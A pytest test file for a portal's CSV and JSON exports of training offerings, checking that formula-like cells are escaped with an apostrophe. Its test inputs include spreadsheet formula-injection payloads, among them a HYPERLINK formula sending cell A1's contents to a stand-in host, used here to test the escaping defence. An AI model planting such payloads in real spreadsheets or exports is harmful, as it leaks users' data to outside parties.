"""The CSV export is safe to open in a spreadsheet: no cell runs as a formula, and "'s Avonds"
keeps its apostrophe. The JSON export stays exactly what the portal holds."""

import csv
import io
import json

import pytest

from tests.trajectories.factories import LocationFactory, OfferingFactory, ProviderFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://elders.example/?"&A1;"Klik")',
    "+32 9 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(client, **params) -> list[dict]:
    body = client.get("/opleidingen/export.csv", params).content.decode("utf-8")
    return list(csv.DictReader(io.StringIO(body[1:]), delimiter=";"))


@pytest.fixture
def hostile_offering():
    provider = ProviderFactory(
        name='=HYPERLINK("https://elders.example/?"&A1;"Klik")',
        phone="+32 9 123 45 67",
        email="@SUM(A1:A9)",
    )
    return OfferingFactory(
        title="-2+3 Kinderbegeleider Zeldzaam",
        duration="\t=1+1",
        location=LocationFactory(provider=provider, name="\r=1+1"),
        is_evening=True,
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_starts_with_an_apostrophe(value):
    from portal.spreadsheets import spreadsheet_cell

    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Gent", "Kinderbegeleider", "", "2026-09-01", "1,0", None, 3])
def test_ordinary_cells_are_left_as_they_are(value):
    from portal.spreadsheets import spreadsheet_cell

    assert spreadsheet_cell(value) == value


def test_an_apostrophe_in_front_is_doubled_so_the_spreadsheet_shows_one():
    from portal.spreadsheets import spreadsheet_cell

    assert spreadsheet_cell("'s Avonds") == "''s Avonds"


def test_the_csv_export_writes_no_formula(client, hostile_offering):
    (row,) = csv_rows(client, q="zeldzaam")
    assert row["aanbieder"] == "'" + hostile_offering.location.provider.name
    assert row["telefoon"] == "'+32 9 123 45 67"
    assert row["e_mail"] == "'@SUM(A1:A9)"
    assert row["opleiding"] == "'-2+3 Kinderbegeleider Zeldzaam"
    assert row["duur"] == "'\t=1+1"
    assert row["vestiging"] == "'\r=1+1"
    for value in row.values():
        assert not value or value[0] not in "=+-@\t\r", value


def test_the_csv_export_keeps_the_apostrophe_of_s_avonds(client, hostile_offering):
    (row,) = csv_rows(client, q="zeldzaam")
    assert row["lesmomenten"] == "''s Avonds"


def test_the_json_export_stays_exact(client, hostile_offering):
    data = json.loads(client.get("/opleidingen/export.json", {"q": "zeldzaam"}).content)
    (row,) = data["resultaten"]
    assert row["aanbieder"] == hostile_offering.location.provider.name
    assert row["telefoon"] == "+32 9 123 45 67"
    assert row["lesmomenten"] == "'s Avonds"
    assert row["duur"] == "\t=1+1"
